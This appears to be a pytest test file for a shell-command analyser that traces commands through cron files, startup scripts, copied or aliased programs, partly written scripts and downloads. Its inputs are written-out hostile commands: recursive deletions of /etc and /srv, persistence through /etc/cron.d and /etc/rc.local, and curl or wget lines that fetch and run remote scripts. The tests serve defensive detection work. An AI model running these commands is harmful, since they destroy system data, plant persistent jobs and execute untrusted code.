"""What a source writes, copies or downloads is followed when it is run later."""

from __future__ import annotations

import pytest

from reifierd.shell import Context, read


def test_a_system_crontab_that_is_written_is_read() -> None:
    source = "echo '0 3 * * * root rm -rf /srv' > /etc/cron.d/x"
    assert ["rm", "-rf", "/srv"] in [[w.text for w in c.argv] for c in read(source).commands]


@pytest.mark.parametrize(
    "source",
    [
        "cp /bin/rm /tmp/x; /tmp/x -rf /etc", "ln -s /usr/bin/rm x && ./x -rf /etc", "hash -p /bin/rm ls; ls -rf /etc",
    ],
)  # fmt: skip
def test_a_copy_of_a_program_is_that_program(source: str) -> None:
    assert read(source).commands[-1].program == "rm"


@pytest.mark.parametrize("path", ["/etc/cron.hourly/x", "/etc/profile.d/x.sh", "/etc/rc.local"])
def test_a_script_that_the_system_runs_by_itself_is_read(path: str) -> None:
    [_, command] = read(f"echo 'rm -rf /srv' > {path}").commands
    assert (command.program, command.via) == ("rm", (path,))


def test_a_script_that_was_written_in_parts_is_read_when_it_runs() -> None:
    commands = read("echo 'cd /etc' > x; echo 'rm -rf ssh' >> x; sh x", Context(cwd="/srv")).commands
    assert [(c.program, c.cwd) for c in commands if "sh" in c.via] == [("cd", "/srv"), ("rm", "/etc")]


def test_only_what_the_source_knows_for_sure_is_remembered() -> None:
    """What was overwritten from outside is no longer what was written before."""
    assert "rm" not in [c.program for c in read("echo 'rm -rf /etc' > x; date > x; sh x").commands]


@pytest.mark.parametrize(
    "source",
    [
        "curl -o x https://a.b/y; sh x",
        "wget https://a.b/x?v=1; bash ./x",
        "curl https://a.b/y | tee x; sh x",
        "curl https://a.b/y > x; python3 x",
    ],
)
def test_what_was_downloaded_cannot_be_told(source: str) -> None:
    assert "network" in read(source, Context(cwd="/srv")).commands[-1].opaque
